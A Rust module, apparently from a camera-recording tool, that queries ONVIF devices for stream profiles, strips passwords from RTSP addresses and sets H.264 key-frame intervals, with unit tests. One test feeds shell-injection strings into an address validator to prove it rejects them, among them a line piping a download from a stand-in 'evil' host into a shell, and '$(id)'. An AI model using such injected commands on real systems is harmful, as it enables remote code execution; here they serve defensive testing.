//! One device: its profiles, each with what it sends and where; and the distance of its key frames, the
//! one setting that is changed.

use crate::error::OnvifError;
use crate::soap::{Access, Caller};
use crate::xml;
use axum::http::Uri;
use host::clock::Clock;
use host::rng::Rng;
use roxmltree::Node;

const DEVICE: &str = "http://www.onvif.org/ver10/device/wsdl";
const MEDIA: &str = "http://www.onvif.org/ver10/media/wsdl";
const SCHEMA: &str = "http://www.onvif.org/ver10/schema";
const SERVICE: &str = "/onvif/device_service";
/// Of one device; a recorder with many channels has as many.
const PROFILES_MAX: usize = 64;

/// A device whose services are known.
#[derive(Debug, Clone)]
pub struct Device {
    pub(crate) caller: Caller,
    media: String,
    pub(crate) events: Option<String>,
}

/// One of its streams, as it says.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Profile {
    pub token: String,
    pub name: Option<String>,
    /// `H264`, `JPEG` or `MPEG4`; H.265 is not named by this version of the service.
    pub encoding: Option<String>,
    pub width: Option<u32>,
    pub height: Option<u32>,
    pub fps: Option<u32>,
    pub kbit_s: Option<u32>,
    /// Pictures from one key frame to the next.
    pub key_frame_every: Option<u32>,
    /// `G711`, `G726` or `AAC`.
    pub audio: Option<String>,
    /// An `rtsp://` address, without user and password.
    pub stream: Option<String>,
    #[serde(skip)]
    encoder: Option<String>,
}

/// The distance of key frames in pictures, before and after it was set.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
pub struct Changed {
    pub before: u32,
    pub after: u32,
}

impl Device {
    /// Finds out a device's services. `address` is what a person named: HOST, HOST:PORT, or the
    /// address of its device service.
    ///
    /// # Errors
    /// [`OnvifError`].
    pub async fn at(
        address: &str,
        access: Option<Access>,
        clock: Clock,
        rng: Rng,
    ) -> Result<Self, OnvifError> {
        let (service, host) = service_at(address)?;
        let mut caller = Caller::new(&host, access, clock, rng);
        caller.ahead_secs = ahead_secs(&caller, &service).await?;
        let body = format!("<GetCapabilities xmlns=\"{DEVICE}\"><Category>All</Category></GetCapabilities>");
        let answer = caller.ask(&service, &body).await?;
        let document = xml::parse(&answer)?;
        let named = |service| xml::text(document.root(), &["Capabilities", service, "XAddr"]);
        let media = named("Media").ok_or(OnvifError::Lacks("where its media service is"))?;
        let media = caller.own(media)?;
        let events = named("Events").map(|events| caller.own(events)).transpose()?;
        Ok(Self { caller, media, events })
    }

    /// Its profiles, in its order, with their streams.
    ///
    /// # Errors
    /// [`OnvifError`].
    pub async fn profiles(&self) -> Result<Vec<Profile>, OnvifError> {
        let answer = self.caller.ask(&self.media, &format!("<GetProfiles xmlns=\"{MEDIA}\"/>")).await?;
        let mut profiles: Vec<Profile> = {
            let document = xml::parse(&answer)?;
            let profiles = xml::all(document.root(), "Profiles");
            profiles.filter_map(profile).take(PROFILES_MAX).collect()
        };
        for profile in &mut profiles {
            match self.stream(&profile.token).await {
                Ok(stream) => profile.stream = Some(stream),
                // One stream that it does not tell is none; the others are.
                Err(OnvifError::Fault(_) | OnvifError::Lacks(_)) => {}
                Err(error) => return Err(error),
            }
        }
        Ok(profiles)
    }

    async fn stream(&self, token: &str) -> Result<String, OnvifError> {
        let token = xml::escaped(token);
        let body = format!(
            "<GetStreamUri xmlns=\"{MEDIA}\"><StreamSetup><Stream xmlns=\"{SCHEMA}\">RTP-Unicast</Stream>\
             <Transport xmlns=\"{SCHEMA}\"><Protocol>RTSP</Protocol></Transport></StreamSetup>\
             <ProfileToken>{token}</ProfileToken></GetStreamUri>"
        );
        let answer = self.caller.ask(&self.media, &body).await?;
        let document = xml::parse(&answer)?;
        let stream = xml::text(document.root(), &["MediaUri", "Uri"]);
        let stream = stream.and_then(|stream| without_user(&stream)).filter(|stream| is_plain(stream));
        let stream = stream.ok_or(OnvifError::Lacks("where its stream is"))?;
        // Whoever plays it proves the password there.
        let is_own = host_of(&stream).is_some_and(|host| host.eq_ignore_ascii_case(&self.caller.host));
        if is_own { Ok(stream) } else { Err(OnvifError::Lacks("a stream on its own host")) }
    }

    /// Sets the distance of its key frames to about this many seconds, within what it allows, and reads
    /// it back: what is told is what the device says afterwards.
    ///
    /// # Errors
    /// [`OnvifError`]; [`OnvifError::Lacks`] of a profile that is not H.264.
    pub async fn set_key_frames(&self, profile: &Profile, seconds: u32) -> Result<Changed, OnvifError> {
        let token = profile.encoder.as_ref().ok_or(OnvifError::Lacks("how this stream is encoded"))?;
        let lacks = OnvifError::Lacks("how far apart key frames of this stream are (only H.264's are told)");
        let (answer, before) = self.encoder(token).await?;
        let before = before.ok_or(lacks)?;
        // Some say 0 where they have no limit.
        let fps = profile.fps.filter(|fps| *fps > 0).unwrap_or(25);
        let wished = fps.saturating_mul(seconds);
        let (least, most) = self.key_frames_allowed(token).await.unwrap_or((1, u32::MAX));
        let wished = wished.clamp(least.min(most), most);
        let body = {
            let document = xml::parse(&answer)?;
            let encoder =
                xml::find(document.root(), &["GetVideoEncoderConfigurationResponse", "Configuration"]);
            let encoder = encoder.ok_or(OnvifError::Lacks("how this stream is encoded"))?;
            let changed = xml::written(encoder, "Configuration", &("GovLength", wished.to_string()))?;
            format!(
                "<SetVideoEncoderConfiguration xmlns=\"{MEDIA}\">{changed}\
                 <ForcePersistence>true</ForcePersistence></SetVideoEncoderConfiguration>"
            )
        };
        self.caller.ask(&self.media, &body).await?;
        let (_, after) = self.encoder(token).await?;
        Ok(Changed { before, after: after.ok_or(OnvifError::Lacks("what was set"))? })
    }

    /// A configuration as it stands, and the distance of its key frames.
    async fn encoder(&self, token: &str) -> Result<(String, Option<u32>), OnvifError> {
        let token = xml::escaped(token);
        let body = format!(
            "<GetVideoEncoderConfiguration xmlns=\"{MEDIA}\"><ConfigurationToken>{token}</ConfigurationToken>\
             </GetVideoEncoderConfiguration>"
        );
        let answer = self.caller.ask(&self.media, &body).await?;
        let every = xml::number(xml::parse(&answer)?.root(), &["H264", "GovLength"]);
        Ok((answer, every))
    }

    /// The least and the most that it takes; none if it does not say.
    async fn key_frames_allowed(&self, token: &str) -> Option<(u32, u32)> {
        let token = xml::escaped(token);
        let body = format!(
            "<GetVideoEncoderConfigurationOptions xmlns=\"{MEDIA}\"><ConfigurationToken>{token}</ConfigurationToken>\
             </GetVideoEncoderConfigurationOptions>"
        );
        let answer = self.caller.ask(&self.media, &body).await.ok()?;
        let document = xml::parse(&answer).ok()?;
        let range = xml::find(document.root(), &["H264", "GovLengthRange"])?;
        Some((xml::number(range, &["Min"])?, xml::number(range, &["Max"])?))
    }
}

fn profile(node: Node<'_, '_>) -> Option<Profile> {
    let encoder = xml::find(node, &["VideoEncoderConfiguration"]);
    let number = |path: &[&'static str]| encoder.and_then(|encoder| xml::number(encoder, path));
    Some(Profile {
        token: node.attribute("token")?.to_owned(),
        name: node
            .children()
            .find(|child| child.tag_name().name() == "Name")
            .and_then(|name| name.text())
            .map(xml::shown),
        encoding: encoder.and_then(|encoder| xml::text(encoder, &["Encoding"])),
        width: number(&["Resolution", "Width"]),
        height: number(&["Resolution", "Height"]),
        fps: number(&["RateControl", "FrameRateLimit"]),
        kbit_s: number(&["RateControl", "BitrateLimit"]),
        key_frame_every: number(&["H264", "GovLength"]),
        audio: xml::text(node, &["AudioEncoderConfiguration", "Encoding"]),
        stream: None,
        encoder: encoder.and_then(|encoder| encoder.attribute("token")).map(str::to_owned),
    })
}

/// By how much the device's clock is ahead, seconds: its proofs are dated by it. 0 if it does not tell.
async fn ahead_secs(caller: &Caller, service: &str) -> Result<i64, OnvifError> {
    let body = format!("<GetSystemDateAndTime xmlns=\"{DEVICE}\"/>");
    let answer = match caller.ask_unproven(service, &body).await {
        Err(OnvifError::Unauthorized | OnvifError::Fault(_)) => return Ok(0),
        answer => answer?,
    };
    let document = xml::parse(&answer)?;
    let Some(utc) = xml::find(document.root(), &["UTCDateTime"]) else { return Ok(0) };
    let at = |path: &[&'static str]| xml::number(utc, path).and_then(|it| i8::try_from(it).ok());
    let time = || {
        let year = i16::try_from(xml::number(utc, &["Date", "Year"])?).ok()?;
        let (month, day) = (at(&["Date", "Month"])?, at(&["Date", "Day"])?);
        let (hour, minute, second) =
            (at(&["Time", "Hour"])?, at(&["Time", "Minute"])?, at(&["Time", "Second"])?);
        let civil = jiff::civil::DateTime::new(year, month, day, hour, minute, second, 0).ok()?;
        Some(jiff::tz::TimeZone::UTC.to_timestamp(civil).ok()?.as_second())
    };
    let now = i64::try_from(caller.now()).unwrap_or(i64::MAX);
    Ok(time().map_or(0, |time| time.saturating_sub(now)))
}

/// The address of a device service, and its host.
fn service_at(address: &str) -> Result<(String, String), OnvifError> {
    let wrong = || OnvifError::Address(xml::shown(address));
    let whole = match address.contains("://") {
        true => address.to_owned(),
        false => format!("http://{address}"),
    };
    let uri: Uri = whole.parse().map_err(|_| wrong())?;
    let host = uri.host().filter(|host| !host.is_empty()).ok_or_else(wrong)?.to_owned();
    let has_user = uri.authority().is_some_and(|authority| authority.as_str().contains('@'));
    if uri.scheme_str() != Some("http") || has_user {
        return Err(wrong());
    }
    let path = uri.path_and_query().map_or("/", |path| path.as_str());
    let path = if path == "/" { SERVICE } else { path };
    let authority = uri.authority().map_or(host.as_str(), |authority| authority.as_str());
    Ok((format!("http://{authority}{path}"), host))
}

impl Profile {
    /// Whether it is what is played at this address.
    pub fn is_at(&self, url: &str) -> bool {
        let path = |url: &str| without_user(url).and_then(|url| Some(url.get(path_at(&url)?..)?.to_owned()));
        self.stream.as_deref().is_some_and(|stream| path(stream).is_some() && path(stream) == path(url))
    }

    fn pixels(&self) -> u64 {
        u64::from(self.width.unwrap_or(0)) * u64::from(self.height.unwrap_or(0))
    }
}

/// Which two streams of a device to film: the largest picture that can be carried, and a smaller one
/// for phones, grids and slow uplinks, the nearest to this many pixels.
const SECOND_PIXELS: u64 = 640 * 360;

/// The stream to film, and the second one, if the device has any.
pub fn proposed(profiles: &[Profile]) -> (Option<&Profile>, Option<&Profile>) {
    // H.265 is told as none of the codecs that this version of the service names.
    let is_carried = |profile: &&Profile| !matches!(profile.encoding.as_deref(), Some("JPEG" | "MPEG4"));
    let carried = || profiles.iter().filter(|profile| profile.stream.is_some()).filter(is_carried);
    // The first of several that are as large.
    let main = carried().rev().max_by_key(|profile| profile.pixels());
    let is_smaller = |profile: &&Profile| main.is_some_and(|main| profile.pixels() < main.pixels());
    let second = carried().filter(is_smaller).min_by_key(|profile| profile.pixels().abs_diff(SECOND_PIXELS));
    (main, second)
}

/// Whether an address can be shown, and pasted into a shell between quotes, as it stands.
fn is_plain(stream: &str) -> bool {
    stream.bytes().all(|byte| byte.is_ascii_graphic() && !b"'\"\\`$<>{}|^".contains(&byte))
}

/// The host of a stream's address, where its device service is asked for.
pub fn host_of(stream: &str) -> Option<String> {
    let uri: Uri = without_user(stream)?.parse().ok()?;
    uri.host().map(str::to_owned)
}

/// Where the path of an address begins.
fn path_at(url: &str) -> Option<usize> {
    let at = url.find("://")? + 3;
    Some(url.get(at..)?.find(['/', '?']).map_or(url.len(), |path| at + path))
}

/// A stream's address without what some devices write before the host.
fn without_user(stream: &str) -> Option<String> {
    let (scheme, rest) = stream.split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if !matches!(scheme.as_str(), "rtsp" | "rtsps") {
        return None;
    }
    let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    (!host.is_empty()).then(|| format!("{scheme}://{host}{path}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_person_may_name_a_device_by_its_host_alone() {
        for (address, service, host) in [
            ("10.0.0.20", "http://10.0.0.20/onvif/device_service", "10.0.0.20"),
            ("door.lan:8000", "http://door.lan:8000/onvif/device_service", "door.lan"),
            ("[fe80::1]:80", "http://[fe80::1]:80/onvif/device_service", "[fe80::1]"),
            ("http://10.0.0.20/own/service", "http://10.0.0.20/own/service", "10.0.0.20"),
        ] {
            assert_eq!(service_at(address).unwrap(), (service.to_owned(), host.to_owned()));
        }
        for address in
            ["", "https://10.0.0.20", "rtsp://10.0.0.20/1", "a b", "http://", "me:secret@10.0.0.20"]
        {
            assert!(matches!(service_at(address), Err(OnvifError::Address(_))), "{address}");
        }
    }

    fn profile(encoding: &str, width: u32, height: u32, stream: &str) -> Profile {
        Profile {
            token: stream.to_owned(),
            name: None,
            encoding: Some(encoding.to_owned()),
            width: Some(width),
            height: Some(height),
            fps: None,
            kbit_s: None,
            key_frame_every: None,
            audio: None,
            stream: Some(stream.to_owned()).filter(|stream| !stream.is_empty()),
            encoder: None,
        }
    }

    #[test]
    fn a_profile_without_a_name_is_one() {
        let document = xml::parse("<Profiles token=\"1\"/>").unwrap();
        let found = super::profile(document.root_element()).unwrap();
        assert_eq!((found.token.as_str(), found.name), ("1", None));
    }

    #[test]
    fn the_largest_picture_is_proposed_and_a_small_one_beside_it() {
        let profiles = [
            profile("JPEG", 3840, 2160, "rtsp://c/jpeg"),
            profile("H264", 1920, 1080, "rtsp://c/1"),
            profile("H264", 1920, 1080, "rtsp://c/again"),
            profile("H264", 4000, 3000, ""),
            profile("H264", 1280, 720, "rtsp://c/2"),
            profile("H264", 704, 576, "rtsp://c/3"),
            profile("H264", 160, 90, "rtsp://c/4"),
        ];
        let names = |(main, second): (Option<&Profile>, Option<&Profile>)| {
            (main.map(|it| it.token.clone()), second.map(|it| it.token.clone()))
        };
        let (main, second) = names(proposed(&profiles));
        assert_eq!((main.as_deref(), second.as_deref()), (Some("rtsp://c/1"), Some("rtsp://c/3")));
        assert_eq!(names(proposed(&profiles[1..2])), (Some("rtsp://c/1".to_owned()), None));
        assert_eq!(names(proposed(&profiles[..1])), (None, None));
    }

    #[test]
    fn a_profile_is_known_by_the_path_of_its_stream() {
        let one = profile("H264", 1, 1, "rtsp://10.0.0.20:554/Streaming/101?transport=x");
        assert!(one.is_at("rtsp://me@door.lan/Streaming/101?transport=x"));
        assert!(!one.is_at("rtsp://10.0.0.20:554/Streaming/102?transport=x"));
        assert!(!one.is_at("door.mp4"));
        assert!(!profile("H264", 1, 1, "").is_at("rtsp://10.0.0.20"));
        assert_eq!(host_of("rtsp://me:x@door.lan:8554/1").as_deref(), Some("door.lan"));
        assert_eq!(host_of("RTSP://me:x@door.lan/1").as_deref(), Some("door.lan"), "in any case");
        assert_eq!(host_of("door.mp4"), None);
    }

    #[test]
    fn a_streams_address_is_told_without_the_password_that_some_devices_write_into_it() {
        assert_eq!(
            without_user("rtsp://admin:x@10.0.0.20:554/1?a=b@c").unwrap(),
            "rtsp://10.0.0.20:554/1?a=b@c"
        );
        assert_eq!(without_user("rtsp://10.0.0.20/1").unwrap(), "rtsp://10.0.0.20/1");
        for word in ["'; curl evil|sh; '", "$(id)", "`id`", "\u{202e}", "\\", " "] {
            assert!(!is_plain(&format!("rtsp://10.0.0.20/1{word}")), "{word}");
        }
        assert!(is_plain("rtsp://10.0.0.20:554/Streaming/101?transport=x&a=%27#b"));
        assert_eq!(without_user("http://10.0.0.20/1").or(without_user("rtsp://")), None);
    }
}
